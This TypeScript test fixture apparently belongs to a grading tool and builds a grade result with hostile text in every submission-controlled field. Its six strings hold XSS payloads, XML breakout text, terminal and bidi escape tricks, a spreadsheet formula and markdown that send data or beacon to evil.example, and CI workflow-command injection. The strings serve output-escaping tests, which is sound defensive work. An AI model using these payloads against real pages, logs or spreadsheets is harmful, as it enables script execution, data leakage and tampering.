/** R01–R06, and a result in which a submission has put one wherever it has a say. */
import type { GradeResult } from '../../src/results/index.ts'
import { HEALTHY, resultOf, SHA } from '../results/fixture.ts'

const HOST = '/srv/grading/slot-7/work'

export const TEXTS = {
  R01: `<script>alert(1)</script><img src=x onerror=alert(1)>"><svg onload=alert(1)> ' onclick='x`,
  R02: `]]></failure></testsuite><testcase name="fake"/><!-- ]]> & &lt; \u0000\u0008\ufffe\ud800 \ud83d`,
  R03: '\u001b[2J\u001b]0;title\u0007\u009b31m\r\n\u202egnp.exe\u2066\u200b\u061c',
  R04: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  R05: '``` ` ```` \n```\n# heading\n[link](javascript:alert(1)) ![i](http://evil.example/i) | a | b \\| @everyone http://evil.example <b>',
  R06: '::error file=x::boom\n::add-mask::secret\n##[error]x\n::stop-commands::x\n::set-output name=a::b',
} as const

/** The same text wherever a submission has a say. */
export function hostile(text: string): GradeResult {
  const message = `${text} ${HOST}/src/server.ts`
  const name = text.slice(0, 200)
  const both = { en: message, zh: message }
  const result = resultOf(
    {},
    {
      hostPaths: [{ path: HOST, as: '/app' }],
      isHidden: pitfall => pitfall === 'stdout-noise',
      about: {
        submission: {
          name,
          learner: { id: name, name, email: name },
          source: 'zip',
          tree: SHA,
          submittedAt: null,
          commit: name,
          notices: [{ kind: 'tamper', entry: name, message: { en: text, zh: text } }],
        },
        seeds: [name],
        sandbox: { ...HEALTHY, probes: [{ name, held: false, detail: text }] },
        attempts: [{ at: '2026-11-30T10:00:00.000Z', why: text }],
        flags: [{ kind: 'suspicious', why: name }],
      },
      outcome: { stop: { verdict: 'crashed', text: both } },
    },
  )
  // The first rows have everything a row can have; more of them would only be slow.
  const clean = (said: string) =>
    said.replaceAll(HOST, '/app').replace(/\p{Cs}/gu, '\ufffd')
  const said = clean(message)
  const last = {
    observed: { en: said, zh: said },
    frames: [{ dir: '<-' as const, text: said }],
  }
  const pitfalls = result.pitfalls.map((pitfall, at) => ({
    ...pitfall,
    verdict: 'failed' as const,
    points: 0,
    checks: pitfall.checks.map(check => ({
      ...check,
      verdict: 'failed' as const,
      points: 0,
      ...(at < 3 ? last : {}),
    })),
  }))
  const score = result.score && {
    ...result.score,
    points: 0,
    core: { ...result.score.core, points: 0 },
    beyond: { ...result.score.beyond, points: 0 },
    done: false,
  }
  return { ...result, pitfalls, score }
}
